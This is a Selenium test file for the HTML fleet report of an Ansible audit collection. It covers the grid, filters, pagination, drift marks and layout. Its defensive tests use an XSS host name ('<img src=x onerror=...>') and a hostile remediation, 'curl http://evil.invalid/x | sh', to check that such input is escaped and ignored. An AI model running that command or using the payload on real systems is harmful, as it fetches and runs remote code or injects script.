"""The HTML report in a real headless browser (Debian's chromium + chromedriver).

The report is written by the real playbook for a fleet with an audited host, an
unreachable one and one whose Python is missing, plus an image audit that is
at_risk, so the grid has several statuses to filter.
"""
import shutil

import pytest
from selenium import webdriver
from selenium.webdriver.chrome.options import Options
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from ansible_collections.homelab.postmortem.plugins.module_utils.registry import DETECTIONS
from helpers import local_host, run_audit


@pytest.fixture
def browser():
    chromium, driver = shutil.which('chromium'), shutil.which('chromedriver')
    if not (chromium and driver):
        pytest.fail('chromium and chromedriver are missing: run `make test-env` (scripts/setup-system.sh)')
    options = Options()
    options.binary_location = chromium
    for flag in ('--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
                 '--disable-background-networking', '--disable-component-update', '--disable-sync',
                 '--window-size=1400,900'):
        options.add_argument(flag)
    session = webdriver.Chrome(service=Service(driver), options=options)
    session.set_page_load_timeout(30)
    yield session
    session.quit()


@pytest.fixture
def report(tmp_path):
    root = tmp_path / 'sdcard'
    (root / 'boot' / 'firmware').mkdir(parents=True)
    (root / 'boot' / 'firmware' / 'config.txt').write_text('dtoverlay=pwm-ir-tx\n')
    (root / 'lib' / 'modules' / '6.18.34+rpt-rpi-v8').mkdir(parents=True)
    inventory = {'all': {'hosts': {
        'localhost': local_host(),
        'pi-image': local_host(postmortem_root=str(root)),
        'deadhost': {'ansible_host': '127.0.0.9', 'ansible_port': 1},
        'nopython': local_host(ansible_python_interpreter='/nonexistent/bin/python3'),
    }}}
    # postmortem_root as a host variable: each host gets its own root.
    run = run_audit(tmp_path, inventory)
    assert run.proc.returncode == 0, run.output
    run.image_root = str(root)
    return run


def open_cell(browser, host, check):
    """Click a cell and wait until its block of findings is decompressed and drawn."""
    browser.find_element(By.CSS_SELECTOR, 'td.cell[data-host="%s"][data-check="%s"]' % (host, check)).click()
    WebDriverWait(browser, 20).until(
        lambda b: b.find_element(By.ID, 'details').get_attribute('data-ready') == '1'
        or b.find_elements(By.CSS_SELECTOR, '#details p.load-problem'))
    return browser.find_element(By.ID, 'details')


def visible_rows(browser):
    return [r.get_attribute('data-host') for r in browser.find_elements(By.CSS_SELECTOR, 'tr.host-row') if r.is_displayed()]


def test_grid_details_and_status_filter(browser, report):
    browser.get('file://%s/postmortem.html' % report.report_dir)
    hosts = ['localhost', 'pi-image', 'deadhost', 'nopython']
    assert visible_rows(browser) == hosts
    headers = [h.text for h in browser.find_elements(By.CSS_SELECTOR, 'th.check')]
    assert headers == [d.ID for d in DETECTIONS]
    cells = browser.find_elements(By.CSS_SELECTOR, 'td.cell')
    assert len(cells) == len(hosts) * len(headers)
    status = dict(((c.get_attribute('data-host'), c.get_attribute('data-check')), c.get_attribute('data-status')) for c in cells)
    assert status[('pi-image', 'pi_ir_tx')] == 'at_risk'
    assert status[('deadhost', 'pi_ir_tx')] == 'unreachable'
    assert status[('nopython', 'llama_sleep_race')] == 'failed'

    # Evidence and fix on click.
    details = open_cell(browser, 'pi-image', 'pi_ir_tx')
    assert details.get_attribute('data-host') == 'pi-image'
    assert 'gpio-ir-tx' in details.text  # the fix
    # An image is fixed by the role (its root defaults to the audit's postmortem_root); nothing to reboot.
    assert 'Role homelab.postmortem.pi_ir_tx' in details.text and 'pi_ir_tx_root' not in details.text
    assert details.find_element(By.CSS_SELECTOR, 'p.disruption').text == 'Disruption: none'
    assert '"next_boot_kernel": "6.18.34+rpt-rpi-v8"' in details.find_element(By.CSS_SELECTOR, 'pre.evidence').text
    # A cell with nothing to fix offers no fix.
    assert 'Fix' not in open_cell(browser, 'localhost', 'pi_ir_tx').text.split('\n')

    # Filter: only at_risk -> only the image host stays, other statuses are dimmed.
    for box in browser.find_elements(By.CSS_SELECTOR, 'input.status-filter'):
        if box.get_attribute('value') != 'at_risk':
            box.click()
    assert visible_rows(browser) == ['pi-image']
    dimmed = browser.find_elements(By.CSS_SELECTOR, 'tr[data-host="pi-image"] td.cell.dimmed')
    assert [c.get_attribute('data-check') for c in dimmed] == [d.ID for d in DETECTIONS if d.ID != 'pi_ir_tx']

    # Add unreachable back: the unreachable host reappears.
    browser.find_element(By.ID, 'filter-unreachable').click()
    assert visible_rows(browser) == ['pi-image', 'deadhost']


def test_ten_thousand_hosts_counts_first_pages_and_evidence_on_demand(browser, tmp_path):
    """A synthetic 10,000-host report (report.build on audit results shaped like the module's: twelve findings a
    host, two instances each, with evidence) in the real browser: counts per check and status first, 100 rows a
    page, a count lists its hosts, a cell opens its evidence from its compressed block, the last block too. Size
    and speed are measured by make bench, not here."""
    from ansible_collections.homelab.postmortem.plugins.plugin_utils import report as fleet_report, report_files

    def result(index):
        findings = {}
        for detection in DETECTIONS:
            status = 'ok'
            if detection.ID == 'pi_ir_tx':
                status = 'affected' if index % 101 == 0 else 'at_risk' if index == 9998 else 'ok'
            instances = [{'name': 'instance %d' % k, 'status': status, 'summary': 'instance %d of host %d' % (k, index),
                          'evidence': {'pid': k, 'argv': ['/usr/bin/server', '--flag', str(k)]}} for k in range(2)]
            findings[detection.ID] = {'id': detection.ID, 'title': detection.TITLE, 'status': status,
                                      'summary': 'host %d' % index,
                                      'evidence': {'marker': 'evidence-of-%d' % index, 'instances': instances},
                                      'remediation': {'manual': ['fix it']}, 'references': []}
        return {'ansible_facts': {'postmortem': findings}}
    hosts = ['host%05d' % i for i in range(10000)]
    data = fleet_report.build(hosts, dict((h, result(i)) for i, h in enumerate(hosts)),
                              [(d.ID, d.TITLE) for d in DETECTIONS], '0.2.0')
    paths, problems = report_files.write(data, str(tmp_path), ['html'])
    assert not problems
    browser.get('file://%s' % paths['html'])
    affected = browser.find_element(By.CSS_SELECTOR, '#counts td.count[data-check="pi_ir_tx"][data-status="affected"]')
    assert affected.text == str(len(range(0, 10000, 101)))
    assert len(visible_rows(browser)) == 100
    assert browser.find_element(By.ID, 'page-info').text == 'hosts 1\u2013100 of 10000, page 1 of 100'
    browser.find_element(By.ID, 'page-next').click()
    assert visible_rows(browser)[0] == 'host00100'
    affected.click()
    assert visible_rows(browser)[:3] == ['host00000', 'host00101', 'host00202']
    assert 'of %s (pi_ir_tx: affected)' % affected.text in browser.find_element(By.ID, 'page-info').text
    assert 'evidence-of-202' in open_cell(browser, 'host00202', 'pi_ir_tx').find_element(By.CSS_SELECTOR, 'pre.evidence').text
    # The last block: host09998 (the one at_risk) is in block 49 (hosts 9800 to 9999).
    browser.find_element(By.CSS_SELECTOR, '#counts td.count[data-check="pi_ir_tx"][data-status="at_risk"]').click()
    assert visible_rows(browser) == ['host09998']
    details = open_cell(browser, 'host09998', 'pi_ir_tx')
    assert 'instance 1 of host 9998' in details.text and 'evidence-of-9998' in details.text


def test_a_browser_without_decompression_says_where_the_findings_are(browser, report):
    browser.get('file://%s/postmortem.html' % report.report_dir)
    browser.execute_script('delete window.DecompressionStream;')
    details = open_cell(browser, 'pi-image', 'pi_ir_tx')
    problem = details.find_element(By.CSS_SELECTOR, 'p.load-problem').text
    assert 'cannot decompress the findings' in problem and 'postmortem.json' in problem


def test_a_host_whose_remediation_failed_says_so(browser, tmp_path):
    """A remediation run's report: the host whose fix failed and the one not touched say so in their details, and a
    role's note (what only its task output said, remediation.role_notes) shows on its host."""
    from ansible_collections.homelab.postmortem.plugins.plugin_utils import report as fleet_report, report_files
    finding = {'id': 'pi_ir_tx', 'title': 'IR', 'status': 'at_risk', 'summary': 's', 'evidence': {},
               'remediation': {'manual': ['fix it']}, 'references': []}
    results = dict((h, {'ansible_facts': {'postmortem': {'pi_ir_tx': finding}}}) for h in ('pi-1', 'pi-2'))
    data = fleet_report.build(['pi-1', 'pi-2'], results, [(d.ID, d.TITLE) for d in DETECTIONS], '0.2.0', before=results,
                              remediation={'pi-1': {'state': 'failed', 'task': 'Replace the overlay',
                                                    'reason': 'Read-only file system </p>'},
                                           'pi-2': {'state': 'not_run', 'reason': 'not touched: pi-1 failed',
                                                    'notes': [{'role': 'homelab.postmortem.pi_ir_tx', 'note': 'reboot pending <b>now</b>'}]}})
    paths, problems = report_files.write(data, str(tmp_path), ['html'])
    assert not problems
    browser.get('file://%s' % paths['html'])
    for host, text in (('pi-1', "Remediation FAILED in 'Replace the overlay': Read-only file system </p>"),
                       ('pi-2', 'Remediation not run: not touched: pi-1 failed')):
        assert open_cell(browser, host, 'pi_ir_tx').find_element(By.CSS_SELECTOR, 'p.remediation-problem').text == text
    # A role's note shows as the text it is (never as markup), and only on the host it came from.
    notes = open_cell(browser, 'pi-2', 'pi_ir_tx').find_elements(By.CSS_SELECTOR, 'p.role-note')
    assert [n.text for n in notes] == ['Note from role pi_ir_tx: reboot pending <b>now</b>']
    assert open_cell(browser, 'pi-1', 'pi_ir_tx').find_elements(By.CSS_SELECTOR, 'p.role-note') == []


def test_drift_and_accepted_findings_are_marked_and_filterable(browser, tmp_path):
    """What changed since the previous audit and what was accepted, marked in the grid and the details,
    with a filter for the hosts that changed."""
    import datetime
    import json
    from ansible_collections.homelab.postmortem.plugins.plugin_utils import accepted, report as fleet_report, report_drift, report_files

    def results(statuses):
        return dict((h, {'ansible_facts': {'postmortem': {'pi_ir_tx': {
            'id': 'pi_ir_tx', 'title': 'IR', 'status': s, 'summary': 's', 'evidence': {},
            'remediation': {'manual': ['fix it']}, 'references': []}}}}) for h, s in statuses.items())
    checks = [(d.ID, d.TITLE) for d in DETECTIONS]
    first = {'pi-1': 'ok', 'pi-2': 'affected', 'pi-3': 'ok', 'pi-4': 'at_risk'}
    earlier = fleet_report.build(list(first), results(first), checks, '0.2.0',
                                 now=datetime.datetime(2026, 11, 30, 2, 0, tzinfo=datetime.timezone.utc))
    known = frozenset(cid for cid, _title in checks)
    history, _drift = report_drift.drift_since(earlier, str(tmp_path), known)
    with open(str(tmp_path / report_drift.HISTORY_FILE), 'w') as out:
        json.dump(report_drift.next_history(earlier, history), out)
    now = {'pi-1': 'affected', 'pi-2': 'ok', 'pi-3': 'ok', 'pi-4': 'at_risk', 'pi-5': 'unknown'}
    data = fleet_report.build(list(now), results(now), checks, '0.2.0')
    report_drift.drift_since(data, str(tmp_path), known)
    data['accept'] = accepted.apply(data, accepted.parse([{'host': 'pi-4', 'check': 'pi_ir_tx', 'reason': 'known, waiting',
                                                           'expires': '2099-01-01'}], 'accept.yml'), datetime.date.today())
    paths, problems = report_files.write(data, str(tmp_path), ['html'])
    assert not problems
    browser.get('file://%s' % paths['html'])
    assert browser.find_element(By.ID, 'drift').text.startswith('Since 2026-11-30T02:00:00Z: 1 opened, 1 closed')
    assert browser.find_element(By.ID, 'accepted').text == 'Accepted (\u2713): 1 finding(s)'
    cell = browser.find_element(By.CSS_SELECTOR, 'td.cell[data-host="pi-1"][data-check="pi_ir_tx"]')
    assert cell.get_attribute('data-drift') == 'opened' and '\u25b2' in cell.text
    browser.find_element(By.ID, 'filter-changed').click()
    assert visible_rows(browser) == ['pi-1', 'pi-2']
    browser.find_element(By.ID, 'filter-changed').click()
    details = open_cell(browser, 'pi-4', 'pi_ir_tx')
    assert details.find_element(By.CSS_SELECTOR, 'p.accepted-note').text == \
        'Accepted (postmortem_accept): known, waiting (until 2099-01-01)'
    assert open_cell(browser, 'pi-1', 'pi_ir_tx').find_element(By.CSS_SELECTOR, 'p.drift-note').text == \
        'Opened since the audit of 2026-11-30T02:00:00Z.'
    # A check the audit could not measure says since when (this run: pi-5 is new).
    assert open_cell(browser, 'pi-5', 'pi_ir_tx').find_element(By.CSS_SELECTOR, 'p.unmeasured-note').text == \
        'Not measured since %s: the last measured status stands until a run measures it again.' % data['generated_at']


HOSTILE_NAME = 'pi-<img src=x onerror=document.title=1>&amp;'


def layout_report(tmp_path, extra_checks):
    """A fleet report over the registry's checks plus ``extra_checks`` made-up ones (a site with as many
    declared checks again): long host names, every status, and one host whose finding advises a role
    of its own (a compromised host may write anything there)."""
    from ansible_collections.homelab.postmortem.plugins.plugin_utils import report as fleet_report, report_files
    checks = [(d.ID, d.TITLE) for d in DETECTIONS] + [
        ('site_backup_restic_stale_%02d' % n, 'Site check %d: the nightly backup is stale or empty' % n) for n in range(extra_checks)]
    statuses = ['ok', 'affected', 'at_risk', 'not_applicable', 'unknown', 'error']
    hosts = ['pi-livingroom-%02d.home.arpa' % n for n in range(30)] + [HOSTILE_NAME]

    def finding(cid, title, status, advice=None):
        return {'id': cid, 'title': title, 'status': status, 'summary': '%s on this host </td><b>' % status, 'evidence': {},
                'remediation': advice or {'role': None, 'vars': {}, 'module': None, 'manual': [], 'disruption': 'none'},
                'references': []}
    results = {}
    for number, host in enumerate(hosts):
        results[host] = {'ansible_facts': {'postmortem': dict(
            (cid, finding(cid, title, statuses[(number + position) % len(statuses)])) for position, (cid, title) in enumerate(checks))}}
    results[HOSTILE_NAME]['ansible_facts']['postmortem']['pi_ir_tx'] = finding(
        'pi_ir_tx', 'IR', 'affected', {'role': 'evil.collection.takeover', 'vars': {'pwn': True}, 'module': 'evil.mod',
                                       'manual': ['curl http://evil.invalid/x | sh'], 'disruption': 'none'})
    data = fleet_report.build(hosts, results, checks, '0.2.0')
    paths, problems = report_files.write(data, str(tmp_path / ('checks-%d' % len(checks))), ['html'])
    assert not problems
    return paths['html'], len(checks)


def test_every_column_fits_at_1280_and_1920_and_the_page_reads_without_javascript(browser, tmp_path):
    """Issue 35: at 1280 px about half of the 12 columns were cut off, and the page showed nothing without
    JavaScript. Every check's header is inside the viewport at 1280 and 1920 px, with the 12 checks and with
    24; screenshots are kept beside the reports. One browser session for all of it."""
    pages = [layout_report(tmp_path, 0), layout_report(tmp_path, 12)]
    assert [count for _page, count in pages] == [len(DETECTIONS), 2 * len(DETECTIONS)]
    for page, count in pages:
        for width in (1280, 1920):
            browser.execute_cdp_cmd('Emulation.setDeviceMetricsOverride',
                                    {'width': width, 'height': 1000, 'deviceScaleFactor': 1, 'mobile': False})
            browser.get('file://%s' % page)
            assert browser.execute_script('return window.innerWidth') == width
            boxes = browser.execute_script(
                'return Array.prototype.map.call(document.querySelectorAll("#grid th.check"), function (th) {'
                '  var r = th.getBoundingClientRect(); return [th.textContent, r.left, r.right, r.width]; });')
            assert len(boxes) == count
            outside = [box for box in boxes if box[1] < 0 or box[2] > width or box[3] <= 0]
            browser.save_screenshot(str(tmp_path / ('grid-%d-checks-%d-px.png' % (count, width))))
            assert not outside, (count, width, outside)
            # Nothing scrolls sideways: the last cell of a row is on screen too.
            assert browser.execute_script('var w = document.getElementById("grid-wrap"); return w.scrollWidth <= w.clientWidth')
            assert browser.execute_script('return document.documentElement.scrollWidth') <= width
            # The full name: on hover (title) and in the legend.
            first = browser.find_element(By.CSS_SELECTOR, '#grid th.check')
            assert first.get_attribute('title') == 'pi_ir_tx: %s' % DETECTIONS[0].TITLE
            assert browser.find_element(By.CSS_SELECTOR, '#legend dt').text == 'pi_ir_tx'
    # The fix shown is the registry's, never the host's: the hostile host advised a role and a command of its own.
    details = open_cell(browser, HOSTILE_NAME, 'pi_ir_tx')
    assert 'Role homelab.postmortem.pi_ir_tx' in details.text and 'gpio-ir-tx' in details.text
    assert 'evil' not in details.text
    assert browser.title == 'homelab.postmortem fleet report'

    # Without JavaScript: the totals and the worst hosts, as the controller rendered them; host text stays text.
    browser.execute_cdp_cmd('Emulation.setScriptExecutionDisabled', {'value': True})
    try:
        browser.get('file://%s' % pages[0][0])
        totals = dict((t.get_attribute('data-total'), t.text) for t in browser.find_elements(By.CSS_SELECTOR, '#totals span'))
        assert totals['affected'].startswith('affected: ') and totals['ok'].startswith('ok: '), totals
        assert not browser.find_element(By.ID, 'grid').is_displayed()
        rows = browser.find_elements(By.CSS_SELECTOR, '#worst tbody tr')
        assert rows and all(r.is_displayed() for r in rows)
        hostile = [r for r in rows if r.get_attribute('data-host') == HOSTILE_NAME]
        assert hostile and hostile[0].find_element(By.CSS_SELECTOR, 'th').text == HOSTILE_NAME
        assert 'affected on this host </td><b>' in hostile[0].text and 'evil' not in hostile[0].text
        assert not browser.find_elements(By.CSS_SELECTOR, '#worst img, #worst b')
        browser.save_screenshot(str(tmp_path / 'no-javascript.png'))
    finally:
        browser.execute_cdp_cmd('Emulation.setScriptExecutionDisabled', {'value': False})


def test_the_first_screen_at_1280_by_800_is_the_answer_with_its_command(browser, report):
    """#44: the count table and the grid filled the first screen and the worst findings with their fix were
    below the fold. Now the worst-findings table with the remediate command is first, inside 1280x800; its
    copy button copies the command; the docs link opens a rendered page beside the report. Without
    JavaScript the command is there as selectable text."""
    browser.execute_cdp_cmd('Emulation.setDeviceMetricsOverride', {'width': 1280, 'height': 800, 'deviceScaleFactor': 1, 'mobile': False})
    browser.get('file://%s/postmortem.html' % report.report_dir)
    assert browser.execute_script('return window.innerHeight') == 800
    command = browser.find_element(By.CSS_SELECTOR, '#worst tr[data-host="pi-image"] code.cmd')
    bottom = browser.execute_script('return arguments[0].getBoundingClientRect().bottom', command)
    overview = browser.execute_script('return document.getElementById("overview").getBoundingClientRect().top')
    browser.save_screenshot(str(report.report_dir) + '/first-screen-1280x800.png')
    assert 0 < bottom <= 800 and bottom < overview, (bottom, overview)
    assert command.text.replace('\n', ' ').startswith('ansible-playbook homelab.postmortem.remediate -i ')
    assert report.host('pi-image')['fix']['pi_ir_tx']['command'] == command.get_attribute('textContent')
    assert browser.find_element(By.CSS_SELECTOR, '#worst tr[data-host="pi-image"] button.copy').is_displayed()
    # The docs link: a page shipped beside the report, rendered, relative (no file:// path of this machine).
    details = open_cell(browser, 'pi-image', 'pi_ir_tx')
    link = details.find_element(By.CSS_SELECTOR, 'p.docs a')
    assert link.get_attribute('href').endswith('/postmortem-docs/pi_ir_tx.html')
    link.click()
    assert browser.find_element(By.TAG_NAME, 'h1').text.startswith('pi_ir_tx')
    browser.execute_cdp_cmd('Emulation.setScriptExecutionDisabled', {'value': True})
    try:
        browser.get('file://%s/postmortem.html' % report.report_dir)
        code = browser.find_element(By.CSS_SELECTOR, '#worst tr[data-host="pi-image"] code.cmd')
        assert code.is_displayed() and '--tags pi_ir_tx' in code.text
        assert not browser.find_element(By.CSS_SELECTOR, '#worst button.copy').is_displayed()
    finally:
        browser.execute_cdp_cmd('Emulation.setScriptExecutionDisabled', {'value': False})
